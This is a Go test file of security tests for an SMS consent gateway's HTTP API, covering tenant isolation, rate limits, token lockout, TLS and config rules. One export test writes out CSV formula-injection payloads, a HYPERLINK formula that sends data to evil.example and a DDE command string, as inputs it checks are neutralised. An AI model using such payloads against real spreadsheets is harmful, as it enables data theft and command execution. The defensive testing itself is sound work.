package gateway

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/csv"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/optgate/optgate/internal/testutil"
)

// Security tests of the HTTP API (issue 13): every one goes through the
// real gateway and its real listener.

const betaNumber = "+15145550288"

// withHTTP adds keys to the test config's http map.
func withHTTP(y, keys string) string {
	return strings.Replace(y, "http: {", "http: {"+keys+", ", 1)
}

// httpFrom is a client whose connections come from the loopback address
// ip (127.0.0.2 ...), so that per-address limits see another address.
func httpFrom(ip string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, DisableKeepAlives: true}}
}

func doReq(t *testing.T, c *http.Client, method, url, token, body string) (int, http.Header, string) {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, string(b)
}

// Item 2: a tenant cannot make the gateway send a consent confirmation
// from another tenant's number; its own number, in any format, works.
func TestConsentSenderMustBeTenantsOwn(t *testing.T) {
	smsc := newSMSC(t)
	dir := t.TempDir()
	env := startEnv(t, configYAML(dir, smsc.Addr(), betaTenant, ""), smsc, dir)
	const victim, other = "+15145550111", "+15145550112"
	for _, sender := range []string{betaNumber, "+1 (514) 555-0288", "514-555-0288", "15145550288"} {
		code, m := env.http("POST", "/v1/consent/"+victim+"/opt-out", acmeToken, `{"sender":"`+sender+`"}`)
		if code != 403 || errCode(m) != "sender_not_allowed" {
			t.Fatalf("acme names beta's number %q as sender: %d %v", sender, code, m)
		}
		code, m = env.http("POST", "/v1/consent/"+victim+"/opt-in", acmeToken,
			`{"sender":"`+sender+`","source":"signed_form","proof_ref":"f-1"}`)
		if code != 403 || errCode(m) != "sender_not_allowed" {
			t.Fatalf("opt-in naming beta's number %q: %d %v", sender, code, m)
		}
	}
	// The admin acting on acme is held to acme's numbers too.
	if code, m := env.http("POST", "/v1/consent/"+victim+"/opt-out?tenant=acme", adminTok, `{"sender":"`+betaNumber+`"}`); code != 403 {
		t.Fatalf("admin for acme names beta's number: %d %v", code, m)
	}
	if code, m := env.http("POST", "/v1/consent/"+victim+"/opt-out", acmeToken, `{"sender":"ACME"}`); code != 422 || errCode(m) != "invalid_sender" {
		t.Fatalf("a sender that is no number: %d %v", code, m)
	}
	// acme's own number in national format is accepted, normalised, and
	// the confirmation comes from it.
	if code, m := env.http("POST", "/v1/consent/"+other+"/opt-out", acmeToken, `{"sender":"(514) 555-0199"}`); code != 200 {
		t.Fatalf("acme's own number: %d %v", code, m)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	for {
		s, err := smsc.NextSubmit(ctx)
		if err != nil {
			t.Fatalf("no confirmation to %s: %v", other, err)
		}
		to, from := "+"+string(s.PDU.Dest.Addr), string(s.PDU.Source.Addr)
		if to == victim || strings.HasSuffix(from, betaNumber[1:]) {
			t.Fatalf("the SMSC received a submit to %s from %s", to, from)
		}
		if to == other {
			testutil.RequireEqual(t, from, ourNumber[1:])
			break
		}
	}
	if n := smsc.Submits(); n != 1 {
		t.Fatalf("the SMSC received %d submits, want only acme's confirmation", n)
	}
	// Nothing was recorded for the refused requests.
	if code, m := env.http("GET", "/v1/consent/"+victim+"/history", acmeToken, ""); code != 200 || len(m["evidence"].([]any)) != 0 {
		t.Fatalf("refused requests left evidence: %d %v", code, m)
	}
}

// Item 4: imports run at most max_imports_per_tenant per tenant and
// max_imports in all; one more gets 429 import_busy, and the slot is
// free again once the import ends.
func TestImportConcurrencyLimits(t *testing.T) {
	smsc := newSMSC(t)
	dir := t.TempDir()
	env := startEnv(t, withHTTP(configYAML(dir, smsc.Addr(), betaTenant, ""), "max_imports: 1, max_imports_per_tenant: 1"), smsc, dir)
	// An import whose body keeps coming: its connection stays open.
	held, err := net.Dial("tcp", env.g.HTTPAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer held.Close()
	// More than fasthttp's 8 KiB pre-read, so that the handler runs.
	fmt.Fprintf(held, "POST /v1/consent/import?source=crm HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: 1000000\r\n\r\nrecipient\n%s",
		acmeToken, strings.Repeat("+14385550001\n", 1000))
	small := "recipient\n+14385550002\n"
	// Only once the held import has its slot: a small import sent before
	// could take the slot first and make the held one the refused one.
	testutil.CheckFor(t, 10*time.Second, func() error {
		if env.g.api.ImportsRunning("acme") == 0 {
			return errors.New("the held import has no slot yet")
		}
		return nil
	})
	busy := func(token string) error {
		code, m := env.http("POST", "/v1/consent/import?source=crm", token, small)
		if code != 429 || errCode(m) != "import_busy" {
			return fmt.Errorf("second import: %d %v", code, m)
		}
		return nil
	}
	testutil.CheckFor(t, 10*time.Second, func() error { return busy(acmeToken) }) // per tenant
	if err := busy(betaToken); err != nil {                                       // in all
		t.Fatal(err)
	}
	held.Close()
	testutil.CheckFor(t, 10*time.Second, func() error {
		if code, m := env.http("POST", "/v1/consent/import?source=crm", acmeToken, small); code != 200 {
			return fmt.Errorf("after the first import ended: %d %v", code, m)
		}
		return nil
	})
}

// Item 4: a record over consent.MaxImportLine stops the import with its
// line number (rows before it stay applied).
func TestImportLineTooLong(t *testing.T) {
	env := newEnv(t)
	body := "recipient\n+14385550003\n+1438" + strings.Repeat("5", 200<<10) + "\n+14385550004\n"
	code, resp := rawPost(t, env.g.HTTPAddr(), "/v1/consent/import?source=crm", acmeToken, body, false)
	if code != 400 || !strings.Contains(resp, `"line_too_long"`) || !strings.Contains(resp, `"line":3`) || !strings.Contains(resp, `"report"`) {
		t.Fatalf("long line: %d %s", code, resp)
	}
	// The gateway goes on serving imports.
	if code, m := env.http("POST", "/v1/consent/import?source=crm", acmeToken, "recipient\n+14385550004\n"); code != 200 {
		t.Fatalf("next import: %d %v", code, m)
	}
}

// Item 6: an MO made up by the simulator is recorded as source
// "simulator", never as a handset's keyword; and the route exists only on
// a loopback listener.
func TestSimulatorMOEvidenceAndLoopback(t *testing.T) {
	// Each gateway gets its simulator's listener held open, not an
	// address closed before it listens: another test could take it.
	simListener := func() net.Listener {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		return ln
	}
	ln := simListener()
	y := func(dir, simAddr string) string {
		return fmt.Sprintf(`
store: {dir: %q}
http: {admin_token: %q}
simulator: {enabled: true, listen: %q, system_id: optgate, password: simpw}
allow_insecure_defaults: true
tenants:
  - {id: acme, brand: Acme, help_contact: help@acme.example, api_token: %q, numbers: [%q]}
accounts:
  - {system_id: acme, password: acmepw, tenant: acme}
`, dir, adminTok, simAddr, acmeToken, ourNumber)
	}
	dir := t.TempDir()
	env := startEnvOpt(t, y(dir, ln.Addr().String()), nil, dir, Options{SimulatorListener: ln})
	for _, text := range []string{"STOP", "START"} {
		if code, m := env.http("POST", "/v1/simulator/mo", acmeToken, `{"from":"`+handset+`","to":"`+ourNumber+`","text":"`+text+`"}`); code != 200 {
			t.Fatalf("simulated %s: %d %v", text, code, m)
		}
	}
	var ev []any
	testutil.CheckFor(t, 10*time.Second, func() error {
		_, m := env.http("GET", "/v1/consent/"+handset+"/history", acmeToken, "")
		ev, _ = m["evidence"].([]any)
		if len(ev) < 2 {
			return fmt.Errorf("evidence: %v", m)
		}
		return nil
	})
	for _, e := range ev {
		if src := e.(map[string]any)["source"]; src != "simulator" {
			t.Fatalf("a simulated MO recorded with source %v: %v", src, e)
		}
	}
	env.stop()

	// The same on a listener on every interface (allowed by
	// allow_insecure_defaults): the route is refused.
	wild, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Skipf("cannot listen on 0.0.0.0: %v", err)
	}
	_, port, _ := net.SplitHostPort(wild.Addr().String())
	dir = t.TempDir()
	ln2 := simListener()
	env2 := startEnvOpt(t, y(dir, ln2.Addr().String()), nil, dir, Options{HTTPListener: wild, SimulatorListener: ln2})
	code, _, body := doReq(t, http.DefaultClient, "POST", "http://127.0.0.1:"+port+"/v1/simulator/mo", acmeToken,
		`{"from":"`+handset+`","to":"`+ourNumber+`","text":"STOP"}`)
	if code != 404 {
		t.Fatalf("simulator MO on a public listener: %d %s", code, body)
	}
	code, _, body = doReq(t, http.DefaultClient, "GET", "http://127.0.0.1:"+port+"/v1/consent/"+handset+"/history", acmeToken, "")
	if code != 200 || !strings.Contains(body, `"evidence":[]`) {
		t.Fatalf("the refused MO left evidence: %d %s", code, body)
	}
	env2.stop()
}

// Item 9: one address holding many idle connections does not lock out
// another address; an idle connection is closed after read_timeout.
func TestHTTPConnectionsPerAddress(t *testing.T) {
	smsc := newSMSC(t)
	dir := t.TempDir()
	env := startEnv(t, withHTTP(configYAML(dir, smsc.Addr(), "", ""), "max_connections: 40, max_conns_per_ip: 10, read_timeout: 5s"), smsc, dir)
	var idle []net.Conn
	defer func() {
		for _, c := range idle {
			c.Close()
		}
	}()
	for range 50 { // more than max_connections, from 127.0.0.1
		c, err := net.Dial("tcp", env.g.HTTPAddr())
		if err != nil {
			t.Fatal(err)
		}
		idle = append(idle, c)
	}
	other := httpFrom("127.0.0.2")
	url := "http://" + env.g.HTTPAddr()
	if code, _, body := doReq(t, other, "GET", url+"/healthz", "", ""); code != 200 {
		t.Fatalf("another address while 127.0.0.1 holds 50 connections: %d %s", code, body)
	}
	if code, _, body := doReq(t, other, "POST", url+"/v1/messages", acmeToken, `{"to":"`+handset+`","text":"hi"}`); code != 202 {
		t.Fatalf("API call from another address: %d %s", code, body)
	}
	// The 11th connection from 127.0.0.1 was refused with 429.
	idle[len(idle)-1].SetReadDeadline(time.Now().Add(5 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(idle[len(idle)-1]), nil)
	if err != nil || resp.StatusCode != 429 {
		t.Fatalf("connection over max_conns_per_ip: %v %v", resp, err)
	}
	// A connection that never sends a byte is closed after read_timeout
	// (5s here): the first one answers and ends before the deadline.
	idle[0].SetReadDeadline(time.Now().Add(15 * time.Second))
	if _, err := io.ReadAll(idle[0]); err != nil {
		t.Fatalf("a silent connection was not closed by the server: %v", err)
	}
}

// Item 9: a request with a body is authenticated before more of its body
// than fasthttp's 8 KiB pre-read is read: a wrong token gets 401 at once,
// though the rest of the announced body never comes.
func TestHTTPAuthBeforeBody(t *testing.T) {
	env := newEnv(t)
	c, err := net.Dial("tcp", env.g.HTTPAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "POST /v1/messages HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong-token-xxxxxxxx\r\nContent-Length: 524288\r\n\r\n%s",
		strings.Repeat("x", 16<<10))
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil || resp.StatusCode != 401 {
		t.Fatalf("wrong token with a body still to come: %v %v", resp, err)
	}
	// A client that waits for "100 Continue" is refused before it sends
	// any body; with the right token it is told to go on.
	for _, c := range []struct {
		token string
		want  int
	}{{"wrong-token-xxxxxxxx", 401}, {acmeToken, 100}} {
		conn, err := net.Dial("tcp", env.g.HTTPAddr())
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(conn, "POST /v1/messages HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nExpect: 100-continue\r\nContent-Length: 524288\r\n\r\n", c.token)
		conn.SetReadDeadline(time.Now().Add(3 * time.Second))
		line, err := bufio.NewReader(conn).ReadString('\n')
		conn.Close()
		if err != nil || !strings.HasPrefix(line, fmt.Sprintf("HTTP/1.1 %d ", c.want)) {
			t.Fatalf("Expect: 100-continue with token %s: %q %v, want %d", c.token, line, err, c.want)
		}
	}
}

// syncBuf is a bytes.Buffer for a logger written from several goroutines.
type syncBuf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuf) Write(p []byte) (int, error) { s.mu.Lock(); defer s.mu.Unlock(); return s.b.Write(p) }
func (s *syncBuf) String() string              { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }

// Item 13: repeated wrong tokens lock the address out (429 with
// Retry-After, even for a right token), logged without the token and
// counted; another address is not affected; the lock ends.
func TestHTTPAuthFailureLockout(t *testing.T) {
	smsc := newSMSC(t)
	dir := t.TempDir()
	var logs syncBuf
	log := slog.New(slog.NewTextHandler(&logs, nil))
	env := startEnvOpt(t, withHTTP(configYAML(dir, smsc.Addr(), "", ""), "auth_failures: 5, auth_lockout: 2s"), smsc, dir, Options{Logger: log})
	const wrong = "guess-0123456789abcdef"
	for i, tok := range []string{wrong, wrong, wrong, wrong, acmeToken, wrong} {
		// A success in between does not reset the count: a tenant could
		// otherwise guess at other tokens forever.
		want := 401
		if tok == acmeToken {
			want = 200
		}
		if code, m := env.http("GET", "/v1/consent/"+handset, tok, ""); code != want {
			t.Fatalf("request %d: %d %v, want %d", i, code, m, want)
		}
	}
	url := "http://" + env.g.HTTPAddr() + "/v1/consent/" + handset
	code, h, body := doReq(t, http.DefaultClient, "GET", url, acmeToken, "")
	if code != 429 || !strings.Contains(body, `"auth_locked"`) || h.Get("Retry-After") == "" {
		t.Fatalf("right token from a locked address: %d %v %s", code, h, body)
	}
	if code, _, body := doReq(t, httpFrom("127.0.0.2"), "GET", url, acmeToken, ""); code != 200 {
		t.Fatalf("another address: %d %s", code, body)
	}
	if n := metricValue(env, "optgate_http_auth_failures_total", `outcome="unauthorized"`); n != 5 {
		t.Fatalf("unauthorized counted %v, want 5", n)
	}
	if n := metricValue(env, "optgate_http_auth_failures_total", `outcome="locked"`); n < 1 {
		t.Fatalf("locked refusals counted %v", n)
	}
	if !strings.Contains(logs.String(), "locked out") || strings.Contains(logs.String(), wrong) || strings.Contains(logs.String(), acmeToken) {
		t.Fatalf("log: %s", logs.String())
	}
	testutil.CheckFor(t, 10*time.Second, func() error {
		if code, _, body := doReq(t, http.DefaultClient, "GET", url, acmeToken, ""); code != 200 {
			return fmt.Errorf("after the lock: %d %s", code, body)
		}
		return nil
	})
}

// Item 12: exported CSV fields that a spreadsheet would run as a formula
// are neutralised; our E.164 numbers are kept as they are.
func TestExportNeutralisesFormulas(t *testing.T) {
	env := newEnv(t)
	note := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	body := `{"operator":"@SUM(1+1)","note":` + fmt.Sprintf("%q", note) + `,"source":"-2+3","proof_ref":"+cmd|' /C calc'!A0"}`
	if code, m := env.http("POST", "/v1/consent/"+handset+"/opt-out", acmeToken, body); code != 200 {
		t.Fatalf("opt-out: %d %v", code, m)
	}
	_, m := env.http("GET", "/v1/consent/export?what=evidence", acmeToken, "")
	rows, err := csv.NewReader(strings.NewReader(m["raw"].(string))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("evidence export: %v %q", err, m["raw"])
	}
	col := map[string]string{}
	for i, h := range rows[0] {
		col[h] = rows[1][i]
	}
	testutil.RequireEqual(t, col["recipient"], handset)
	testutil.RequireEqual(t, col["operator"], "'@SUM(1+1)")
	testutil.RequireEqual(t, col["detail"], "'"+note)
	testutil.RequireEqual(t, col["consent_source"], "'-2+3")
	testutil.RequireEqual(t, col["proof_ref"], "'+cmd|' /C calc'!A0")
	for _, f := range rows[1] {
		if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) && f != handset {
			t.Errorf("field %q exported raw", f)
		}
	}
}

// selfSigned writes a certificate for 127.0.0.1 and its key, and returns
// their paths and a pool trusting the certificate.
func selfSigned(t *testing.T) (certFile, keyFile string, pool *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "optgate test"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	kb, _ := x509.MarshalECPrivateKey(key)
	dir := t.TempDir()
	certFile, keyFile = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600)
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kb}), 0o600)
	cert, _ := x509.ParseCertificate(der)
	pool = x509.NewCertPool()
	pool.AddCert(cert)
	return certFile, keyFile, pool
}

// Item 14: with http.tls the API speaks TLS 1.2+ only.
func TestHTTPTLS(t *testing.T) {
	certFile, keyFile, pool := selfSigned(t)
	smsc := newSMSC(t)
	dir := t.TempDir()
	env := startEnv(t, withHTTP(configYAML(dir, smsc.Addr(), "", ""), fmt.Sprintf("tls: {cert: %q, key: %q}", certFile, keyFile)), smsc, dir)
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	url := "https://" + env.g.HTTPAddr()
	if code, _, body := doReq(t, c, "POST", url+"/v1/messages", acmeToken, `{"to":"`+handset+`","text":"over TLS"}`); code != 202 {
		t.Fatalf("send over TLS: %d %s", code, body)
	}
	// Plain HTTP on the TLS port gets no API answer.
	if resp, err := http.Get("http://" + env.g.HTTPAddr() + "/healthz"); err == nil {
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == 200 {
			t.Fatalf("plain HTTP served on the TLS listener: %s", b)
		}
	}
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", env.g.HTTPAddr(),
		&tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS11, MaxVersion: tls.VersionTLS11})
	if err == nil {
		conn.Close()
		t.Fatal("a TLS 1.1 handshake succeeded")
	}
}

// Behind a load balancer (http.trusted_proxies) the lockout follows the
// client's address in X-Forwarded-For, so one guesser does not lock out
// every client of the proxy; from an untrusted peer the header is ignored.
func TestHTTPAuthLockoutBehindProxy(t *testing.T) {
	smsc := newSMSC(t)
	dir := t.TempDir()
	env := startEnv(t, withHTTP(configYAML(dir, smsc.Addr(), "", ""), `auth_failures: 3, auth_lockout: 1m, trusted_proxies: ["127.0.0.1", "10.0.0.0/8"]`), smsc, dir)
	url := "http://" + env.g.HTTPAddr() + "/v1/consent/" + handset
	get := func(c *http.Client, xff, token string) int {
		req, _ := http.NewRequest("GET", url, nil)
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("X-Forwarded-For", xff)
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	proxy := http.DefaultClient
	for range 3 {
		if code := get(proxy, "198.51.100.7, 203.0.113.5", "wrong-token-xxxxxxxx"); code != 401 {
			t.Fatalf("guess: %d", code)
		}
	}
	if code := get(proxy, "203.0.113.5", acmeToken); code != 429 {
		t.Fatalf("the guesser behind the proxy: %d, want 429", code)
	}
	if code := get(proxy, "203.0.113.5, 203.0.113.6", acmeToken); code != 200 {
		t.Fatalf("another client behind the proxy: %d, want 200", code)
	}
	// 127.0.0.2 is no trusted proxy: its X-Forwarded-For is its own claim.
	other := httpFrom("127.0.0.2")
	for range 3 {
		get(other, "203.0.113.9", "wrong-token-xxxxxxxx")
	}
	if code := get(other, "203.0.113.10", acmeToken); code != 429 {
		t.Fatalf("an untrusted peer changing X-Forwarded-For: %d, want 429", code)
	}
}

// Item 5: the configuration rules of the security model, each error with
// its file:line.
func TestConfigSecurityRules(t *testing.T) {
	parse := func(y string) string {
		_, err := ParseConfig([]byte(y), "s.yaml", func(string) (string, bool) { return "", false })
		if err == nil {
			return ""
		}
		return err.Error()
	}
	public := `http:
  listen: 0.0.0.0:8080
  admin_token: dev-admin-token
  trusted_proxies: ["10.0.0.0/8", "not-an-ip"]
smpp: {listen: "127.0.0.1:2775"}
whatsapp: {app_secret: optgate-mock-app-secret}
tenants:
  - id: acme
    api_token: dev-admin-token
  - id: beta
    api_token: beta-short
simulator: {enabled: true}
`
	errs := parse(public)
	for _, w := range []string{
		"s.yaml:3: http.admin_token: a well-known dev token: not allowed with a listener that is not loopback (http.listen 0.0.0.0:8080)",
		"s.yaml:4: http.trusted_proxies[1]: not an IP address or CIDR",
		"s.yaml:6: whatsapp.app_secret: the WhatsApp mock's well-known app secret",
		"s.yaml:9: tenants[0].api_token: same token as http.admin_token",
		"s.yaml:9: tenants[0].api_token: too short (at least 16 characters)",
		"s.yaml:11: tenants[1].api_token: too short",
		"s.yaml:12: simulator.enabled: the SMSC simulator",
	} {
		if !strings.Contains(errs, w) {
			t.Errorf("missing %q in:\n%s", w, errs)
		}
	}
	// allow_insecure_defaults lifts the listener rule, not the token rules.
	errs = parse(public + "allow_insecure_defaults: true\n")
	if strings.Contains(errs, "not loopback") || !strings.Contains(errs, "same token as http.admin_token") {
		t.Errorf("with allow_insecure_defaults:\n%s", errs)
	}
	// On loopback (the default listeners) the dev defaults are fine.
	errs = parse(strings.Replace(public, "0.0.0.0:8080", "127.0.0.1:8080", 1))
	if strings.Contains(errs, "not loopback") {
		t.Errorf("on loopback:\n%s", errs)
	}
	// An SMPP listener on every interface counts as well.
	errs = parse(strings.Replace(strings.Replace(public, "0.0.0.0:8080", "127.0.0.1:8080", 1), `"127.0.0.1:2775"`, `":2775"`, 1))
	if !strings.Contains(errs, "smpp.listen :2775") {
		t.Errorf("smpp on every interface:\n%s", errs)
	}
}
